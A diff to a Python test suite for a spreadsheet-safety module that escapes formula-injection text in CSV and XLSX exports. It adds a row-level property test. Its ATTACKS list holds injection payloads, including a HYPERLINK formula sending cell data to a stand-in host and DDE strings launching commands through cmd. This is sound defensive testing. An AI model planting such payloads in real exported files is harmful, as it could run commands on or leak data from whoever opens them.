@@ -7,7 +7,13 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
-from machiplan.interchange.spreadsheet_safety import csv_cell, csv_text_back, starts_formula, xlsx_value
+from machiplan.interchange.spreadsheet_safety import (
+    csv_cell,
+    csv_row,
+    csv_text_back,
+    starts_formula,
+    xlsx_value,
+)
 
 ATTACKS = ["=HYPERLINK(\"http://x/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''+x"]  # fmt: skip
@@ -83,3 +89,13 @@ def test_a_plan_package_keeps_such_text_exactly(sapporo, tmp_path):
     write_package(plan, tmp_path / "pkg")
     assert read_package(tmp_path / "pkg") == plan
     assert ATTACKS[1] in (tmp_path / "pkg" / "indicators.csv").read_text(encoding="utf-8")
+
+
+class Marked(str):
+    """A text of a subclass of str (Django's SafeString is one): quoted all the same."""
+
+
+@given(st.lists(st.text(max_size=6) | st.sampled_from(ATTACKS) | st.integers() | st.none(), max_size=8))
+def test_a_row_is_its_cells_each_made_safe(values):
+    assert csv_row(values) == [csv_cell(v) for v in values]
+    assert csv_row([Marked(v) for v in ATTACKS]) == ["'" + v for v in ATTACKS]
